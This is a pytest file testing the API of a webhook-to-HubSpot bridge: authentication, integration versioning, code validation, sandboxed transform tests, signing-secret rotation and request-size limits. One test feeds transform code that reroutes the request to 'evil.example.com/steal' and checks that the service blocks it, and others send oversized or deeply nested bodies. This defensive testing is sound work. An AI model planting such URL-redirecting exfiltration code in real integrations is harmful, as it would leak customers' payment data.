"""The JSON API, in-process against a real Redis and the fake HubSpot over HTTP."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from starlette.testclient import TestClient

import transforms
from engine.app import create_app
from engine.settings import load_settings
from tests.harness import API_TOKEN, SECRET_KEY

AUTH = {"Authorization": f"Bearer {API_TOKEN}"}


@pytest.fixture
def client(redis_url, hubspot, tmp_path: Path) -> Iterator[TestClient]:
    settings = load_settings(
        {
            "PAYBRIDGE_REDIS_URL": redis_url,
            "PAYBRIDGE_API_TOKEN": API_TOKEN,
            "PAYBRIDGE_SECRET_KEY": SECRET_KEY,
            "PAYBRIDGE_DATA_DIR": str(tmp_path),
            "PAYBRIDGE_HUBSPOT_API_BASE": hubspot.base_url,
        }
    )
    with TestClient(create_app(settings), headers=AUTH) as test_client:
        yield test_client


def test_every_api_call_needs_the_token(client):
    for method, path in [
        ("GET", "/api/integrations"),
        ("POST", "/api/integrations"),
        ("POST", "/api/transforms/test"),
        ("GET", "/api/samples"),
        ("GET", "/api/deliveries/x"),
    ]:
        response = client.request(method, path, headers={"Authorization": "Bearer wrong"})
        assert response.status_code == 401, path
        assert response.json()["error"]["code"] == "unauthorized"


def test_create_from_a_template_returns_the_webhook_url_and_secret(client, hubspot):
    response = client.post(
        "/api/integrations",
        json={
            "name": "Contacts",
            "template": "contact_from_payment",
            "hubspot_token": hubspot.token,
        },
    )

    assert response.status_code == 201, response.text
    body = response.json()
    assert body["webhook_url"] == f"http://127.0.0.1:8000/webhooks/{body['id']}"
    assert body["signing_secret"].startswith("whsec_")
    assert body["version"] == 1
    assert body["enabled"] is True
    assert body["on_conflict"] == "update"
    assert hubspot.token not in response.text


def test_a_save_with_broken_code_is_refused_with_line_and_column(client):
    code = "def handler(webhook):\n    x = webhook._fields\n    return webhook\n"

    response = client.post("/api/integrations", json={"name": "Bad", "code": code})

    assert response.status_code == 422
    error = response.json()["error"]
    assert error["code"] == "invalid_code"
    assert error["problems"][0]["line"] == 2
    assert error["problems"][0]["column"] == 9
    assert "_fields" in error["problems"][0]["message"]
    assert client.get("/api/integrations").json()["integrations"] == []


def test_a_syntax_error_names_its_line_and_column(client):
    response = client.post(
        "/api/integrations", json={"name": "Bad", "code": "def handler(webhook):\n    return (\n"}
    )

    assert response.status_code == 422
    problem = response.json()["error"]["problems"][0]
    assert problem["message"].startswith("SyntaxError")
    assert problem["line"] == 2


def test_a_token_hubspot_rejects_is_refused(client):
    response = client.post(
        "/api/integrations",
        json={"name": "C", "template": "contact_from_payment", "hubspot_token": "pat-wrong"},
    )

    assert response.status_code == 422
    assert response.json()["error"]["code"] == "token_rejected"
    assert "401" in response.json()["error"]["message"]


def test_a_token_is_kept_when_hubspot_does_not_say_whose_it_is(client, hubspot):
    # A stand-in for HubSpot (or a proxy) without the account-info endpoint: not a refusal.
    hubspot.inject(kind="status", status=404, count=1, path_prefix="/account-info")

    response = client.post(
        "/api/integrations",
        json={"name": "C", "template": "contact_from_payment", "hubspot_token": hubspot.token},
    )

    assert response.status_code == 201, response.text
    connection = response.json()["connection"]
    assert connection["hub_id"].startswith("token-") and hubspot.token not in connection["hub_id"]
    assert connection["kind"] == "private_app"


def test_unknown_template_event_type_and_on_conflict_are_named(client):
    cases = [
        ({"name": "x", "template": "nope"}, "template"),
        (
            {"name": "x", "template": "contact_from_payment", "event_types": ["payment.ok"]},
            "event_types",
        ),
        ({"name": "x", "template": "contact_from_payment", "on_conflict": "merge"}, "on_conflict"),
        ({"template": "contact_from_payment"}, "name"),
    ]
    for body, field in cases:
        response = client.post("/api/integrations", json=body)
        assert response.status_code == 422, body
        assert response.json()["error"]["field"] == field


def test_patch_code_makes_a_new_version_and_the_old_one_is_kept(client):
    created = client.post(
        "/api/integrations", json={"name": "C", "template": "contact_from_payment"}
    ).json()
    new_code = transforms.template("deal_from_payment")["code"]

    patched = client.patch(f"/api/integrations/{created['id']}", json={"code": new_code})
    read = client.get(f"/api/integrations/{created['id']}").json()

    assert patched.json()["version"] == 2
    assert read["code"] == new_code
    assert [v["version"] for v in read["versions"]] == [2, 1]


def test_patch_enabled_and_event_types_and_delete(client):
    created = client.post(
        "/api/integrations", json={"name": "C", "template": "contact_from_payment"}
    ).json()
    path = f"/api/integrations/{created['id']}"

    patched = client.patch(path, json={"enabled": False, "event_types": ["payment.succeeded"]})
    assert patched.json()["enabled"] is False
    assert patched.json()["event_types"] == ["payment.succeeded"]

    assert client.delete(path).status_code == 204
    assert client.get(path).status_code == 404


def test_transform_test_shows_the_request_that_would_be_sent(client):
    code = transforms.template("deal_from_payment")["code"]

    response = client.post(
        "/api/transforms/test", json={"code": code, "event_type": "payment.succeeded"}
    )

    body = response.json()
    assert response.status_code == 200
    assert body["error"] is None
    assert body["skipped"] is False
    request = body["request"]
    assert request["method"] == "POST"
    assert request["url"] == "https://api.hubapi.com/crm/v3/objects/deals"
    sample = transforms.sample("payment.succeeded")["data"]
    assert request["body"]["properties"]["deal_currency_code"] == sample["currency"]
    assert body["findings"] == []


def test_transform_test_reports_skip_print_and_error_line(client):
    code = (
        "def handler(webhook):\n"
        "    print('type is', webhook.event_type)\n"
        "    if webhook.event_type == 'refund.succeeded':\n"
        "        return webhook\n"
        "    return webhook.payload['data']['missing']\n"
    )

    skipped = client.post(
        "/api/transforms/test", json={"code": code, "event_type": "refund.succeeded"}
    )
    failed = client.post("/api/transforms/test", json={"code": code})

    assert skipped.json()["skipped"] is True
    assert skipped.json()["logs"] == "type is refund.succeeded\n"
    error = failed.json()["error"]
    assert error["type"] == "KeyError"
    assert error["line"] == 5


def test_transform_test_with_a_custom_event_and_a_bad_host(client):
    code = (
        "def handler(webhook):\n"
        "    webhook.url = 'https://evil.example.com/steal'\n"
        "    webhook.payload = webhook.payload\n"
        "    return webhook\n"
    )

    response = client.post("/api/transforms/test", json={"code": code, "event": {"type": "x"}})

    error = response.json()["error"]
    assert error["type"] == "RequestRejected"
    assert error["field"] == "url"
    assert "evil.example.com" in error["message"]
    assert response.json()["request"] is None


def test_samples_and_templates_are_listed(client):
    samples = client.get("/api/samples").json()["samples"]
    templates = client.get("/api/templates").json()["templates"]

    assert set(samples) == set(transforms.EVENT_TYPES)
    assert len(samples) == 46
    assert {"contact_from_payment", "deal_from_payment", "contact_update_on_subscription"} <= {
        t["id"] for t in templates
    }
    assert all({"id", "name", "description", "event_types", "code"} <= set(t) for t in templates)


def test_healthz_and_unknown_ids(client):
    assert client.get("/healthz").json() == {"status": "ok"}
    assert client.get("/api/deliveries/dlv_nope").status_code == 404
    assert client.get("/api/integrations/int_nope/deliveries").status_code == 404
    assert client.post("/api/deliveries/dlv_nope/replay").status_code == 404


def test_dodo_s_signing_secret_can_be_given_and_replaced(client):
    dodo_secret = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"
    created = client.post(
        "/api/integrations",
        json={"name": "C", "template": "contact_from_payment", "signing_secret": dodo_secret},
    ).json()
    assert created["signing_secret"] == dodo_secret

    rotated = "whsec_C2FVsBQIhrscChlQIMV+b5sSYspob7oD"
    patched = client.patch(f"/api/integrations/{created['id']}", json={"signing_secret": rotated})
    assert patched.json()["signing_secret"] == rotated

    bad = client.patch(f"/api/integrations/{created['id']}", json={"signing_secret": "secret"})
    assert bad.status_code == 422
    assert bad.json()["error"]["field"] == "signing_secret"


def test_api_bodies_that_are_too_deep_or_too_large_are_refused(client):
    deep = b'{"code": "x", "event": ' + b"[" * 50_000 + b"]" * 50_000 + b"}"
    nan = b'{"name": "x", "code": "def handler(webhook):\\n    return webhook\\n", "n": NaN}'

    too_deep = client.post("/api/transforms/test", content=deep)
    not_json = client.post("/api/integrations", content=nan)
    too_large = client.post("/api/transforms/test", content=b" " * (3 * 1024 * 1024))

    assert too_deep.status_code == 400
    assert "deeper than 32" in too_deep.json()["error"]["message"]
    assert not_json.status_code == 400
    assert "NaN" in not_json.json()["error"]["message"]
    assert too_large.status_code == 413
    assert too_large.json()["error"]["code"] == "too_large"


def test_a_replay_with_a_version_the_integration_lacks_is_refused(client):
    created = client.post(
        "/api/integrations", json={"name": "C", "template": "contact_from_payment"}
    )
    integration_id = created.json()["id"]
    storage = client.app.state.storage
    event = transforms.sample("payment.succeeded")
    delivery_id, _ = storage.accept_event(integration_id, "msg_1", b"{}", event)

    one = client.post(f"/api/deliveries/{delivery_id}/replay", json={"version": 9})
    every = client.post(f"/api/integrations/{integration_id}/replay", json={"version": 9})

    for refused in (one, every):
        assert refused.status_code == 422, refused.text
        assert refused.json()["error"]["field"] == "version"
        assert "has no version 9" in refused.json()["error"]["message"]
    assert storage.get_delivery(delivery_id)["pinned_version"] is None
